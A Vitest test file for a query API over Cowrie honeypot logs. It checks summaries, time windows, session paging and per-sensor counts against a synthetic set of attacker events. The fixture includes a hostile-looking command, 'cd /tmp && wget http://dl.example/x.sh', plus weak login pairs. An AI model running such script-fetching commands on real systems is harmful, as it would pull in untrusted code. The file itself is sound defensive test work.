import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  bulkLoad, getSessionDetail, sensorCounts, listSessions, parseWindow, resolveSessionRef, summarize, topN, type CowrieStore,
} from '../../src/index.js';
import { createTestDatabase, testDialects, type TestDatabase } from '../support/dialects.js';

type Ev = Record<string, unknown> & { eventid: string; timestamp: string; session: string; sensor: string };

// A small deterministic honeypot day: expected answers are computed from these objects below,
// independently of the store.
function makeEvents(): Ev[] {
  const out: Ev[] = [];
  const ips = ['203.0.113.5', '203.0.113.5', '198.51.100.7', '2001:db8::1', '203.0.113.5', '198.51.100.9'];
  const users = [['root', '123456'], ['admin', 'admin'], ['root', 'root'], ['root', '123456']];
  const cmds = ['uname -a', 'cat /proc/cpuinfo', 'uname -a', 'cd /tmp && wget http://dl.example/x.sh'];
  ips.forEach((ip, i) => {
    const sensor = i % 2 === 0 ? 'hp-a' : 'hp-b';
    const session = `sess${String(i).padStart(8, '0')}`;
    const t = (sec: number) => `2024-03-0${1 + (i % 3)}T10:00:${String(sec).padStart(2, '0')}.${String(i * 111111).padStart(6, '0')}Z`;
    const base = { sensor, session, src_ip: ip };
    out.push({ ...base, eventid: 'cowrie.session.connect', timestamp: t(0), src_port: 40000 + i, dst_ip: '10.0.0.2', dst_port: 2222, protocol: 'ssh' });
    out.push({ ...base, eventid: 'cowrie.client.version', timestamp: t(1), version: i % 2 ? "b'SSH-2.0-Go'" : 'SSH-2.0-libssh2_1.9.0' });
    out.push({ ...base, eventid: 'cowrie.client.kex', timestamp: t(2), hassh: i % 2 ? 'a'.repeat(32) : 'b'.repeat(32) });
    for (let k = 0; k <= i % 4; k++) {
      const [u, p] = users[(i + k) % users.length]!;
      const ok = k === i % 4 && i % 2 === 0;
      out.push({ ...base, eventid: ok ? 'cowrie.login.success' : 'cowrie.login.failed', timestamp: t(3 + k), username: u, password: p });
    }
    if (i % 2 === 0) {
      for (let k = 0; k < 2; k++) out.push({ ...base, eventid: 'cowrie.command.input', timestamp: t(10 + k), input: cmds[(i + k) % cmds.length] });
      out.push({ ...base, eventid: 'cowrie.session.file_download', timestamp: t(20), url: 'http://dl.example/x.sh', shasum: 'c'.repeat(64), outfile: `var/lib/cowrie/downloads/${'c'.repeat(64)}`, destfile: '', duplicate: false });
    }
    out.push({ ...base, eventid: 'cowrie.session.closed', timestamp: t(30), duration: '30.5' });
  });
  // The same session id on two sensors: a bare id is ambiguous.
  out.push({ sensor: 'hp-c', session: 'sess00000000', eventid: 'cowrie.session.connect', timestamp: '2024-03-04T00:00:00.000000Z', src_ip: '192.0.2.1', src_port: 1, dst_ip: '10.0.0.3', dst_port: 22, protocol: 'ssh' });
  return out;
}

function countBy<T>(items: T[], key: (t: T) => string | null): Map<string, number> {
  const m = new Map<string, number>();
  for (const it of items) {
    const k = key(it);
    if (k !== null) m.set(k, (m.get(k) ?? 0) + 1);
  }
  return m;
}

function top(m: Map<string, number>, n = 10): Array<{ value: string; count: number }> {
  return [...m].map(([value, count]) => ({ value, count })).sort((a, b) => b.count - a.count || (a.value < b.value ? -1 : a.value > b.value ? 1 : 0)).slice(0, n);
}

describe.each(testDialects())('query API on %s', (dialect) => {
  const events = makeEvents();
  let tdb: TestDatabase;
  let store: CowrieStore;
  let dir: string;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'cowrie-q-'));
    // Split over two files so that aggregation across files is exercised too.
    const half = Math.floor(events.length / 2);
    writeFileSync(join(dir, 'cowrie.json.2024-03-01'), events.slice(0, half).map((e) => JSON.stringify(e)).join('\n') + '\n');
    writeFileSync(join(dir, 'cowrie.json'), events.slice(half).map((e) => JSON.stringify(e)).join('\n') + '\n');
    tdb = createTestDatabase(dialect);
    store = await tdb.open();
    const r = await bulkLoad(store, [dir], { batchSize: 7 });
    expect(r.events).toBe(events.length);
  });
  afterAll(async () => {
    await store?.close();
    await tdb?.drop();
    rmSync(dir, { recursive: true, force: true });
  });

  const sessionsOf = (evs: Ev[]) => {
    const first = new Map<string, Ev>();
    for (const e of evs) {
      const k = `${e.sensor}/${e.session}`;
      const f = first.get(k);
      if (!f || e.timestamp < f.timestamp) first.set(k, e);
    }
    return first;
  };

  it('summary totals and top lists match an independent count', async () => {
    const r = await summarize(store, { top: 5 });
    const sessions = sessionsOf(events);
    const logins = events.filter((e) => e.eventid.startsWith('cowrie.login.'));
    expect(r.sessions).toBe(sessions.size);
    expect(r.events).toBe(events.length);
    expect(r.uniqueIps).toBe(new Set([...sessions.values()].map((e) => e.src_ip)).size);
    expect(r.sensors).toBe(new Set(events.map((e) => e.sensor)).size);
    expect(r.loginAttempts).toBe(logins.length);
    expect(r.loginSuccesses).toBe(logins.filter((e) => e.eventid === 'cowrie.login.success').length);
    const connects = events.filter((e) => e.eventid === 'cowrie.session.connect');
    expect(r.topIps).toEqual(top(countBy(connects, (e) => e.src_ip as string), 5));
    expect(r.topUsernames).toEqual(top(countBy(logins, (e) => e.username as string), 5));
    expect(r.topPasswords).toEqual(top(countBy(logins, (e) => e.password as string), 5));
    expect(r.topCommands.map(({ value, count }) => ({ value, count }))).toEqual(top(countBy(events.filter((e) => e.eventid === 'cowrie.command.input'), (e) => e.input as string), 5));
    expect(r.topDownloads.map(({ value, count }) => ({ value, count }))).toEqual(top(countBy(events.filter((e) => e.eventid === 'cowrie.session.file_download'), (e) => e.url as string), 5));
    expect(r.topDownloads[0]?.shasum).toBe('c'.repeat(64));
    expect(r.topHassh).toEqual(top(countBy(events.filter((e) => e.eventid === 'cowrie.client.kex'), (e) => e.hassh as string), 5));
    // Client versions are grouped on the normalised form: b'…' unwrapped.
    expect(r.topClientVersions.map((x) => x.value).sort()).toEqual(['SSH-2.0-Go', 'SSH-2.0-libssh2_1.9.0']);
  });

  it('windows are half-open [since, until) on session first events and event times', async () => {
    const w = parseWindow('2024-03-02', '2024-03-03');
    const r = await summarize(store, w);
    const inWin = (ts: string) => ts >= w.since! && ts < w.until!;
    expect(r.sessions).toBe([...sessionsOf(events).values()].filter((e) => inWin(e.timestamp)).length);
    expect(r.events).toBe(events.filter((e) => inWin(e.timestamp)).length);
    const exact = events[0]!.timestamp;
    const upTo = await summarize(store, { until: exact });
    expect(upTo.events).toBe(events.filter((e) => e.timestamp < exact).length);
  });

  it('sensor filter restricts every figure to that sensor', async () => {
    const r = await summarize(store, { sensor: 'hp-b' });
    expect(r.events).toBe(events.filter((e) => e.sensor === 'hp-b').length);
    expect(r.sensors).toBe(1);
  });

  it('lists sessions page by page without gaps or repeats', async () => {
    const all = [];
    let after;
    for (;;) {
      const page = await listSessions(store, { limit: 2, after });
      if (page.length === 0) break;
      all.push(...page);
      const last = page[page.length - 1]!;
      after = { firstTs: last.firstTs ?? '', sensor: last.sensor, session: last.session };
    }
    expect(all.map((s) => s.ref).sort()).toEqual([...sessionsOf(events).keys()].sort());
    expect(new Set(all.map((s) => s.ref)).size).toBe(all.length);
  });

  it('resolves sensor/session and unique bare ids; refuses ambiguous bare ids', async () => {
    expect(await resolveSessionRef(store, 'hp-b/sess00000001')).toEqual({ sensor: 'hp-b', session: 'sess00000001' });
    expect(await resolveSessionRef(store, 'sess00000003')).toEqual({ sensor: 'hp-b', session: 'sess00000003' });
    expect(await resolveSessionRef(store, 'nope')).toBeNull();
    await expect(resolveSessionRef(store, 'sess00000000')).rejects.toThrow(/^ambiguous: session sess00000000 exists on sensors/);
  });

  it('session detail has the events in time order and the derived rows', async () => {
    const d = await getSessionDetail(store, { sensor: 'hp-a', session: 'sess00000002' });
    const mine = events.filter((e) => e.sensor === 'hp-a' && e.session === 'sess00000002');
    expect(d).not.toBeNull();
    expect(d!.events.map((e) => e.eventid)).toEqual([...mine].sort((a, b) => (a.timestamp < b.timestamp ? -1 : 1)).map((e) => e.eventid));
    expect(d!.commands.map((c) => c.input)).toEqual(mine.filter((e) => e.eventid === 'cowrie.command.input').map((e) => e.input));
    expect(d!.logins.length).toBe(mine.filter((e) => e.eventid.startsWith('cowrie.login.')).length);
    expect(d!.downloads.map((x) => x.url)).toEqual(['http://dl.example/x.sh']);
    expect(d!.durationMs).toBe(30_500);
    expect(d!.closed).toBe(true);
    expect(d!.srcPort).toBe(40002);
    expect(d!.dstPort).toBe(2222);
    expect(d!.firstTs).toBe(mine[0]!.timestamp);
  });

  it('per-sensor counts match an independent count', async () => {
    const got = await sensorCounts(store);
    const sensors = [...new Set(events.map((e) => e.sensor))].sort();
    expect(got.map((g) => g.sensor)).toEqual(sensors);
    for (const g of got) {
      const mine = events.filter((e) => e.sensor === g.sensor);
      const sess = [...sessionsOf(mine).values()];
      expect(g).toEqual({
        sensor: g.sensor, sessions: sess.length, events: mine.length, uniqueIps: new Set(sess.map((e) => e.src_ip)).size,
        firstEvent: mine.map((e) => e.timestamp).sort()[0], lastEvent: mine.map((e) => e.timestamp).sort().at(-1),
      });
    }
  });

  it('top-N of credential pairs counts login attempts', async () => {
    const t = await topN(store, 'credential', { limit: 3 });
    const logins = events.filter((e) => e.eventid.startsWith('cowrie.login.'));
    const expected = top(countBy(logins, (e) => `${e.username}:${e.password}`), 3);
    expect(t.map(({ value, count }) => ({ value, count }))).toEqual(expected);
  });
});
